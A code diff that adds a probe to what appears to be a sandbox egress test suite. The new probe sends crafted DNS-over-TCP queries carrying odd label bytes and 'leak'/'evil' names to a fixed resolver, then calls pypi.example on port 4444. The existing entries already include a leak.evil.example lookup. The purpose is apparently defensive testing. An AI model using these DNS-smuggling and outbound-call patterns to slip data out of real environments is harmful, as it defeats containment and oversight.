@@ -282,6 +282,18 @@ def lookup_stream() -> bool:
         return sock.recv(9) == b"leak"
 
 
+def strange_name() -> bool:
+    """Bytes that could end a word of the broker's reports; and a TLS name with them."""
+    for label in (b"leak\0a\nb", b"\xff" * 60):
+        question = b"\1\2\1\0\0\1" + bytes(6) + bytes([len(label)]) + label + b"\4evil\0\0\1\0\1"
+        with socket.create_connection(("11.0.0.1", 53), 3) as sock:
+            sock.settimeout(3)
+            sock.sendall(struct.pack(">H", len(question)) + question)
+            if sock.recv(512)[5:6] != b"\x83":
+                return True
+    return to("pypi.example", 4444)
+
+
 def disturbed() -> bool:
     """Signals, limits and priorities of those who hold the line."""
     deeds = (
@@ -320,6 +332,7 @@ ATTACKS: dict[str, Callable[[], bool]] = {
     "words to a name server": lookup_text,
     "words to a name server by TCP": lookup_stream,
     "data in a name": lambda: bool(socket.getaddrinfo("leak.evil.example", 443)),
+    "a name with strange bytes": strange_name,
     "a Unix socket by path": lambda: unix(f"{WORLD}/sink"),
     "an abstract Unix socket": lambda: unix("\0hookline-sink"),
     "a Unix datagram": unix_packet,
